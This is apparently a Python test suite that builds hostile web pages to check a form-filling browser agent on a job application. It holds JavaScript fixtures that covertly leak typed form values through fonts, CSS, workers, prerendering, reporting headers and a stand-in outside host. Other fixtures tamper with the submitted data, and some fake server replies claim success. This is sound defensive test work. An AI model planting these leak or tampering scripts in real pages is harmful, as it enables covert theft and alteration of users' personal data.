"""A third list of faults: ways of the web that few pages take. The expected ends were written before any of them was tried."""

import gzip
import json
from collections.abc import Callable

from tests.battery.faults import (  # fmt: skip
    ALL,
    DONE,
    FIELDS,
    SUBMIT,
    THANKS,
    Fault,
    accepts,
    answers,
    change,
    form,
    leak,
    shows,
    site_of,
)
from tests.battery.honest import FLAT, FORM_DATA, JSON_TYPE, NO_DOCUMENT, api, posts, scripted
from tests.battery.site import HostileSite, Seen, Visit, slowly
from tests.battery.unseen import sends

SEND = posts("/apply", FORM_DATA)
VALUES = f"encodeURIComponent({ALL})"
GZIP = "(text) => new Response(new Blob([text]).stream().pipeThrough(new CompressionStream('gzip'))).blob()"


def _tells(visit: Visit) -> None:
    """Count the request as one that told the e-mail address, whatever it carries: it cannot be asked for before a value is in the page."""
    visit.site.seen.append(Seen("own", visit.method, visit.path, b"anabel@example.com"))
    visit.answer("")


def _unzips(visit: Visit) -> None:
    visit.site.seen.append(Seen("own", visit.method, visit.path, gzip.decompress(visit.body)))
    visit.answer("")


def _served(name: str, script: str, headers: dict[str, str], ends: tuple[str, ...] = ("any",), sent: tuple[int, ...] = (0, 1)) -> Fault:  # fmt: skip
    """The form's page has headers of its own."""

    def build(site: HostileSite) -> None:
        site_of("", csp=_tells, nel=_tells)(site)
        site.routes["/jobs/1/apply"] = lambda visit: visit.answer(form(script), **headers)

    return Fault(name, build, ends, sent)


ON_CHANGE = "f.addEventListener('change', () => {{ {} }})"


def on_change(name: str, act: str, **routes: object) -> Fault:
    return leak(name, ON_CHANGE.format(act), **routes)


LEAKS = (
    on_change("a compressed body", f"({GZIP})({ALL}).then(b => fetch('/z', {{method: 'POST', body: b}}))", z=_unzips),
    leak("a fetch that outlives the page", f"for (const n of ['pagehide', 'visibilitychange', 'freeze']) addEventListener(n, () => fetch('/k', {{method: 'POST', keepalive: true, body: {ALL}}}))"),
    on_change("a fetch for later", f"try {{ fetchLater('/later?' + {VALUES}, {{activateAfter: 0}}) }} catch (e) {{ }}"),
    leak("a form in a new tab by a timer", "setInterval(() => { if (val('email')) { f.target = '_blank'; f.rel = 'noopener'; f.requestSubmit() } }, 700)"),
    on_change("a page made ready before it is wanted", f"const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({{prerender: [{{source: 'list', urls: ['/n?' + {VALUES}], eagerness: 'immediate'}}]}}); document.head.append(s)"),
    leak("a font for each letter", "const s = document.createElement('style'); s.textContent = [...'abcdefghijklmnop'].map(c => `@font-face { font-family: spy; src: url('/font?' + c); unicode-range: U+${c.charCodeAt(0).toString(16)} }`.replace(\"' + c\", c + \"'\")).join('') + '[name=email] { font-family: spy }'; document.head.append(s)", font=_tells),
    leak("a style for a field that is valid", "const s = document.createElement('style'); s.textContent = \"input[name=email]:valid { background: url('/valid') }\"; document.head.append(s)", valid=_tells),
    on_change("pictures in SVG", f"document.body.insertAdjacentHTML('beforeend', `<svg><image href='/i?${{{VALUES}}}'/><use href='/u.svg?${{{VALUES}}}#a'/><filter id=q><feImage href='/fe?${{{VALUES}}}'/></filter><rect filter='url(#q)' width=9 height=9 /></svg>`)"),
    on_change("preload, module, icon and manifest", f"for (const [r, a] of [['preload', 'fetch'], ['modulepreload', ''], ['icon', ''], ['manifest', ''], ['dns-prefetch', ''], ['preconnect', '']]) {{ const l = document.createElement('link'); l.rel = r; if (a) l.as = a; l.href = '/l?' + r + {VALUES}; document.head.append(l) }}"),
    leak("a shared worker told by a message", f"try {{ const w = new SharedWorker('/w.js'); f.addEventListener('input', () => w.port.postMessage({VALUES})) }} catch (e) {{ }}", **{"w.js": lambda visit: visit.answer("onconnect = e => { e.ports[0].onmessage = m => fetch('/sw?' + m.data) }", media="text/javascript")}),
    leak("a worker that was there before", f"const w = new Worker('/w.js'); f.addEventListener('input', () => w.postMessage({VALUES}))", **{"w.js": lambda visit: visit.answer("onmessage = m => { fetch('/dw?' + m.data); new WebSocket('ws://' + location.host + '/dw?' + m.data); importScripts('/dw.js?' + m.data) }", media="text/javascript")}),
    leak("a service worker told by a message", f"navigator.serviceWorker.register('/w.js').catch(() => 0); f.addEventListener('input', () => navigator.serviceWorker.ready.then(r => r.active.postMessage({VALUES})))", **{"w.js": lambda visit: visit.answer("onmessage = m => fetch('/ss?' + m.data)", media="text/javascript")}),
    on_change("a worklet", f"CSS.paintWorklet && CSS.paintWorklet.addModule('/p.js?' + {VALUES}); new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule('/a.js?' + {VALUES}).catch(() => 0)"),
    leak("frames in a sandbox", f"const src = `<script>onmessage = m => {{ new Image().src = '${{location.origin}}/fr?' + m.data; fetch('${{location.origin}}/fr?' + m.data, {{mode: 'no-cors'}}) }}</scr` + 'ipt>'; for (const a of ['srcdoc', 'data', 'blob']) {{ const i = document.createElement('iframe'); i.sandbox = 'allow-scripts'; if (a == 'srcdoc') i.srcdoc = src; else i.src = a == 'data' ? 'data:text/html,' + encodeURIComponent(src) : URL.createObjectURL(new Blob([src], {{type: 'text/html'}})); document.body.append(i) }} f.addEventListener('input', () => [...frames].forEach(w => w.postMessage({VALUES}, '*')))"),
    leak("a store that is read at the next visit", f"const o = localStorage.w || window.name; if (o) fetch('/again?' + o); f.addEventListener('input', () => {{ localStorage.w = window.name = {VALUES} }})"),
    on_change("a new address and the page loaded again", f"if (val('email')) {{ history.pushState(0, '', '?' + {VALUES}); location.reload() }}"),
    on_change("the Navigation API", f"if (val('email')) {{ navigation.addEventListener('navigate', e => e.canIntercept && e.intercept({{handler: () => fetch(e.destination.url)}})); navigation.navigate('/nav?' + {VALUES}) }}"),
    on_change("a user name in an address", "new Image().src = location.protocol + '//' + val('first') + ':' + val('last') + '@' + location.host + '/auth'"),
    on_change("a click on a download", f"const a = document.createElement('a'); a.download = 'x'; a.href = '/d?' + {VALUES}; document.body.append(a); a.click()"),
    on_change("a source to be attributed", f"const i = new Image(); i.attributionSrc = '/att?' + {VALUES}; i.src = '/i.png'; const a = document.createElement('a'); a.setAttribute('attributionsrc', '/att?' + {VALUES}); a.href = '#'; document.body.append(a); a.click()"),
    on_change("style in five places", f"const u = `url('/st?${{{VALUES}}}')`; Object.assign(document.body.style, {{cursor: u + ', auto', listStyleImage: u, borderImage: u + ' 1', maskImage: u, content: u}}); const s = document.createElement('style'); s.textContent = `@import ${{u}};`; document.head.append(s)"),
    on_change("a refresh in the head", f"if (val('email')) {{ const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0; url=/mr?' + {VALUES}; document.head.append(m) }}"),
    on_change("a JSON module and a style module", f"import('/j.json?' + {VALUES}, {{with: {{type: 'json'}}}}).catch(() => 0); import('/c.css?' + {VALUES}, {{with: {{type: 'css'}}}}).catch(() => 0)"),
    on_change("a user agent that reports", f"new ReportingObserver(() => 0).observe(); navigator.clipboard && navigator.clipboard.writeText({VALUES}).catch(() => 0); navigator.credentials && navigator.credentials.get({{identity: {{providers: [{{configURL: location.origin + '/fedcm?' + {VALUES}, clientId: 'x'}}]}}}}).catch(() => 0)"),
    _served("leaks: a content policy that reports", ON_CHANGE.format(f"new Image().src = 'http://elsewhere.example/?' + {VALUES}"), {"Content_Security_Policy_Report_Only": "img-src 'none'; report-uri /csp; report-to r", "Reporting_Endpoints": 'r="/csp"'}),
    _served("leaks: errors of the network that are reported", ON_CHANGE.format(f"fetch('/gone?' + {VALUES}).catch(() => 0)"), {"NEL": '{"report_to": "n", "max_age": 900, "success_fraction": 1.0}', "Report_To": '{"group": "n", "max_age": 900, "endpoints": [{"url": "/nel"}]}'}),
    _served("leaks: a page that refreshes itself by a header", "", {"Refresh": "2; url=/jobs/1/apply"}),
)  # fmt: skip


def zipped(visa: str) -> str:
    body = f"JSON.stringify({{...{FLAT}, visa: {visa}}})"
    return f"({GZIP})({body}).then(b => fetch('/apply', {{method: 'POST', headers: {{'content-type': 'application/json', 'content-encoding': 'gzip'}}, body: b}})).then(r => r.ok && ({DONE}))"


def from_blob(change: str) -> str:
    return f"const d = new FormData(f); {change}; const r = new Response(d), type = r.headers.get('content-type'); r.blob().then(b => fetch('/apply', {{method: 'POST', headers: {{'content-type': type}}, body: b}})).then(r => r.ok && ({DONE}))"


def in_json(name: str, before: str, after: str) -> Fault:
    """As `sends`, by a form without a document."""

    def build(site: HostileSite) -> None:
        def page(visit: Visit) -> None:
            script = after if "/approved" in visit.site.visits else before
            visit.answer(form(f"{SUBMIT}{script} }})", fields=NO_DOCUMENT))

        site.routes = {"/jobs/1/apply": page, "/apply": api(), "/approved": shows("")}

    return Fault(f"changes: {name}", build, ("stale", "ambiguous"), (0,))


PLAIN_JSON = posts("/apply", f"JSON.stringify({FLAT})", JSON_TYPE)


def on_data(name: str, act: str) -> Fault:
    return change(name, f"f.addEventListener('formdata', e => {{ const d = e.formData; {act} }})")


CHANGES = (
    in_json("another choice in a compressed body", zipped("val('visa')"), zipped("'y1'")),
    sends(from_blob(""), from_blob("d.set('visa', 'y1')"), "another choice in a form made from a blob"),
    sends(SEND, f"const o = window.fetch; window.fetch = (u, i) => {{ i.body.set('visa', 'y1'); return o(u, i) }}; {SEND}", "another choice by a fetch of the page's own"),
    sends(SEND, f"FormData.prototype[Symbol.iterator] = 0; f.elements.job.name = 'posting'; {SEND}", "the name of the vacancy's number"),
    sends(posts("/apply", FORM_DATA, "{'x-job': '4711'}"), posts("/apply", FORM_DATA, "{'x-job': '9999'}"), "the vacancy in a header"),
    in_json("a mark before the JSON", PLAIN_JSON, posts("/apply", f"'\\ufeff' + JSON.stringify({FLAT})", JSON_TYPE)),
    in_json("another alphabet in the type", PLAIN_JSON, posts("/apply", f"JSON.stringify({FLAT})", "{'content-type': 'application/json; charset=utf-7'}")),
    on_data("a null byte in a name", "d.set('last', d.get('last') + '\\0')"),
    on_data("a mark of direction in a name", "d.set('first', '\\u202e' + d.get('first'))"),
    on_data("a list beside the choice", "d.append('visa[]', 'y1')"),
    on_data("a megabyte in a new field", "d.append('x', 'yes'.repeat(400000))"),
    change("the direction of a text as a statement", "f.elements.first.dirName = 'marketing'"),
    change("a picture as the button", "const b = f.querySelector('button'); const i = document.createElement('input'); i.type = 'image'; i.name = 'marketing'; i.alt = 'Submit application'; i.src = 'data:,'; b.replaceWith(i)"),
    change("an address at the button", "f.querySelector('button').formAction = '/apply?job=2'"),
    change("the way of the button", "f.querySelector('button').formMethod = 'get'"),
    change("the encoding of the button", "f.querySelector('button').formEnctype = 'text/plain'"),
    change("a user name in the form's address", "f.action = 'http://job9:x@' + location.host + '/apply'"),
    change("an element that adds a value", "customElements.define('x-y', class extends HTMLElement { static formAssociated = true; constructor() { super(); this.attachInternals().setFormValue('yes') } }); const e = document.createElement('x-y'); e.setAttribute('name', 'marketing'); f.append(e)"),
    change("the form's address at the last moment", "addEventListener('submit', () => { f.action = '/apply/9999' }, true)"),
    change("a field moved in from elsewhere", "document.body.insertAdjacentHTML('beforeend', '<input type=hidden name=partners value=all form=f>')"),
)  # fmt: skip


def breaks(name: str, apply: Callable[[Visit], None], ends: tuple[str, ...] = ("ambiguous",), sent: tuple[int, ...] = (1,), script: str = "") -> Fault:  # fmt: skip
    return Fault(f"breaks: {name}", site_of(form(script), apply), ends, sent)


def raw(*pieces: bytes, pause: float = 0.0) -> Callable[[Visit], None]:
    def route(visit: Visit) -> None:
        visit.record()
        visit.raw(*pieces, pause=pause)

    return route


def _gzipped(body: bytes) -> Callable[[Visit], None]:
    def route(visit: Visit) -> None:
        visit.record()
        visit.answer(body, Content_Encoding="gzip")

    return route


EITHER = ("confirmed", "ambiguous")
OK = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
BODY = OK + b"Content-Length: %d\r\n\r\n" % len(THANKS) + THANKS.encode()
ANSWERS = (
    breaks("the connection ends after the status line", raw(b"HTTP/1.1 200 OK\r\n")),
    breaks("two thousand answers before the answer", raw(b"HTTP/1.1 100 Continue\r\n\r\n" * 2000, BODY), EITHER),
    breaks("headers of two megabytes", raw(OK + b"X-A: " + b"a" * 2_000_000 + b"\r\n\r\n" + THANKS.encode()), EITHER),
    breaks("five hundred cookies", raw(OK + b"".join(b"Set-Cookie: c%d=x\r\n" % n for n in range(500)) + b"Connection: close\r\n\r\n" + THANKS.encode()), EITHER),
    breaks("an answer in parts that replace each other", raw(b"HTTP/1.1 200 OK\r\nContent-Type: multipart/x-mixed-replace; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n" + THANKS.encode() + b"\r\n--b\r\nContent-Type: text/html\r\n\r\n<h1>An error occurred</h1>\r\n--b--\r\n")),
    breaks("205", answers("", 205)),
    breaks("304", answers("", 304)),
    breaks("300 with thanks and nowhere to go", answers("", 300)),
    breaks("an address to go to, with 201", lambda visit: (visit.record(), visit.answer(THANKS, 201, Location="/thanks"))[0], EITHER),
    breaks("a compressed answer", _gzipped(gzip.compress(THANKS.encode())), ("confirmed",)),
    breaks("a compressed answer that is none", _gzipped(THANKS.encode())),
    breaks("a compressed answer of 10 megabytes", _gzipped(gzip.compress(THANKS.encode() + b" " * 10_000_000, 6)), EITHER),
    breaks("an answer in two bytes a letter", lambda visit: (visit.record(), visit.answer(THANKS.encode("utf-16"), media="text/html"))[0], EITHER),
    breaks("an answer as text", lambda visit: (visit.record(), visit.answer(THANKS, media="text/plain"))[0]),
    breaks("already applied, after it was taken", answers("<h1>You have already applied for this job</h1>")),
    breaks("a chain that ends at a stranger's thanks", lambda visit: (visit.record(), visit.redirect(f"http://{visit.site.other}/thanks"))[0]),
    breaks("thanks, and an error by a header", lambda visit: (visit.record(), visit.answer(THANKS, Refresh="0; url=/sorry"))[0], EITHER),
    breaks("drops that end in thanks", raw(OK + b"Connection: close\r\n\r\n", *[bytes([letter]) for letter in THANKS.encode()], pause=0.08), EITHER),
    Fault("lies: 422 with thanks", site_of(form(), apply=answers(THANKS, 422, is_recorded=False)), ("ambiguous", "rejected"), (0,)),
    Fault("lies: thanks in three languages, one says no", site_of(form(), apply=answers("<h1>Thank you for applying · Vielen Dank · Спасибо</h1><p>Заявка не была отправлена.</p>", is_recorded=False)), ("ambiguous", "rejected"), (0,)),
    Fault("lies: already applied, which is not so", site_of(form(), apply=answers("<h1>You have already applied for this job</h1>", is_recorded=False)), ("ambiguous", "rejected"), (0,)),
    Fault("lies: thanks for a form that was only checked", site_of(form(), apply=answers("<h1>Review your application</h1><h2>Thank you for applying</h2><form method=post action=/final><button>Confirm and submit</button></form>", is_recorded=False)), ("ambiguous", "rejected"), (0,)),
)  # fmt: skip


def always(name: str, script: str = "", page: str = "", apply: Callable[[Visit], None] = accepts, sent: tuple[int, ...] = (0, 1)) -> Fault:  # fmt: skip
    return Fault(f"always: {name}", site_of(page or form(script), apply), ("any",), sent)


WORKER = "const w = new {}(URL.createObjectURL(new Blob(['{}']))); const d = Object.fromEntries(new FormData(f)); "
ODD = (
    always("a clock that does not move", "performance.now = () => 0; Date.now = () => 0; Date.prototype.getTime = () => 0"),
    always("timers that do nothing", "window.setInterval = window.setTimeout = window.requestAnimationFrame = () => 0"),
    always("promises that are never kept", "window.Promise = class { constructor() {} then() {} static resolve() { return new Promise() } }; window.MutationObserver = class { observe() {} disconnect() {} }"),
    always("JSON of the page's own", "JSON.stringify = () => '{}'"),
    always("lists of the page's own", "Array.prototype.map = Array.prototype.filter = function () { return [] }; document.querySelectorAll = () => []"),
    always("a busy mark that stays", "document.body.setAttribute('aria-busy', 'true')"),
    always("a form that resets itself", "f.addEventListener('change', () => setTimeout(() => f.reset(), 300))"),
    always("a button that a timer enables late", "const b = f.querySelector('button'); b.disabled = true; setTimeout(() => { b.disabled = false }, 9000)"),
    always("a cover over the page", "document.body.insertAdjacentHTML('beforeend', '<div style=\"position:fixed;inset:0;z-index:9;background:#0008\"><p>Do you accept cookies?</p></div>')"),
    always("a cover over the button", "const b = f.querySelector('button').getBoundingClientRect(); document.body.insertAdjacentHTML('beforeend', `<a href='/apply?cover=1' style='position:absolute;left:${b.x}px;top:${b.y}px;width:${b.width}px;height:${b.height}px'> </a>`)"),
    always("a button that needs two clicks", "let n = 0; f.addEventListener('submit', e => { if (!n++) e.preventDefault() })"),
    always("a question in a dialog of the page", SUBMIT + "const d = document.createElement('dialog'); d.innerHTML = '<p>Really send?</p><button type=button>Yes, submit</button>'; document.body.append(d); d.showModal(); d.querySelector('button').onclick = () => f.submit() })"),
    always("a printer at the click", "f.addEventListener('submit', () => { print(); print() })"),
    always("a place and a permission at the click", SUBMIT + f"navigator.geolocation.getCurrentPosition(() => {{ {SEND} }}, () => {{ {SEND} }}); Notification.requestPermission() }})", apply=api()),
    always("a window for a file that opens by itself", "f.addEventListener('change', () => { const i = document.createElement('input'); i.type = 'file'; i.click(); if (window.showOpenFilePicker) showOpenFilePicker().catch(() => 0) })"),
    always("a document that is dropped", page=form("document.getElementById('z').ondrop = e => e.preventDefault()", fields=FIELDS.replace("<label>Resume <input name=cv type=file required></label>", "<div id=z role=button tabindex=0>Resume: drop your file here</div>"))),
    always("full screen and a locked pointer", "addEventListener('pointerdown', () => { document.documentElement.requestFullscreen().catch(() => 0); document.body.requestPointerLock() })"),
    always("a worker that sends", SUBMIT + WORKER.format("Worker", "onmessage = m => { const d = new FormData(); for (const k in m.data) d.append(k, m.data[k]); fetch(m.data.to, {method: \"POST\", body: d, mode: \"no-cors\"}).then(() => postMessage(1)) }") + f"w.onmessage = () => {{ {DONE} }}; w.postMessage({{...d, to: location.origin + '/apply'}}) }})", apply=api()),
    always("a shared worker that sends", SUBMIT + WORKER.format("SharedWorker", "onconnect = e => { e.ports[0].onmessage = m => fetch(m.data.to, {method: \"POST\", body: m.data.email, mode: \"no-cors\"}) }") + "w.port.postMessage({...d, cv: 0, to: location.origin + '/apply'}) })", apply=api()),
    always("a beacon that sends", SUBMIT + f"navigator.sendBeacon('/apply', new FormData(f)); {DONE} }})", apply=api()),
    always("a new tab without an opener", "f.target = '_blank'; f.rel = 'noopener'"),
    always("a frame in a sandbox", page=form().replace("<body>", "<body><iframe sandbox='allow-forms allow-scripts' srcdoc=\"").replace("</body>", "\"></iframe></body>").replace('action="/apply"', "action=/apply")),
    always("a stream as the body", SUBMIT + f"fetch('/apply', {{method: 'POST', duplex: 'half', body: new Blob([{ALL}]).stream()}}).catch(() => 0) }})", apply=api()),
    always("a thousand fields", page=form(extra="".join(f"<label>Note {n} <input name=n{n}></label>" for n in range(1000)))),
    always("a page of a hundred thousand elements", "const x = document.createElement('div'); x.innerHTML = '<p>words <b>more</b></p>'.repeat(50000); document.body.append(x)"),
    always("a request that waits in the page, for long", SUBMIT + f"const x = new XMLHttpRequest(); x.open('POST', '/apply', false); x.send(new FormData(f)); {DONE} }})", apply=slowly(16, api()), sent=(1,)),
    always("a document written anew at each click", "addEventListener('click', () => { const h = document.documentElement.outerHTML; document.open(); document.write(h); document.close() })"),
    always("a cookie that names the vacancy", "document.cookie = 'job=' + Math.random()"),
)  # fmt: skip
HONEST = (
    scripted("a compressed body", zipped("val('visa')"), fields=NO_DOCUMENT, apply=lambda visit: (setattr(visit, "body", gzip.decompress(visit.body)), visit.record(), visit.answer("{}"))[0]),
    scripted("a form made from a blob", from_blob("")),
    scripted("a request that waits in the page", f"const x = new XMLHttpRequest(); x.open('POST', '/apply', false); x.send(new FormData(f)); {DONE}"),
    Fault("the Navigation API", site_of(form("navigation.addEventListener('navigate', e => { if (e.formData) e.intercept({handler: () => fetch('/apply', {method: 'POST', body: e.formData}).then(() => { DONE })}) })".replace("DONE", DONE)), apply=api()), ("confirmed",)),
    Fault("a button outside the form", site_of(form(button="").replace("</form>", "</form><input type=submit form=f value='Submit application'>")), ("confirmed",)),
    Fault("an address at the button", site_of(form(attributes="method=get action='/nowhere'", button="<button formaction=/apply formmethod=post formenctype=multipart/form-data>Submit application</button>")), ("confirmed",)),
    Fault("a button that a timer enables", site_of(form("const b = f.querySelector('button'); b.disabled = true; setTimeout(() => { b.disabled = false }, 1200)")), ("confirmed",)),
    Fault("a form in a component", site_of("<!doctype html><html lang=en><title>Data Engineer</title><body><h1>Data Engineer</h1><x-form></x-form><script>customElements.define('x-form', class extends HTMLElement { connectedCallback() { this.attachShadow({mode: 'open'}).innerHTML = FORM } })</script></body></html>".replace("FORM", json.dumps(f"<form id=f method=post action=/apply enctype=multipart/form-data>{FIELDS}<button>Submit application</button></form>").replace("</", "<\\/"))), ("confirmed",)),
)  # fmt: skip

UNCOMMON = (*LEAKS, *CHANGES, *ANSWERS, *ODD, *HONEST)
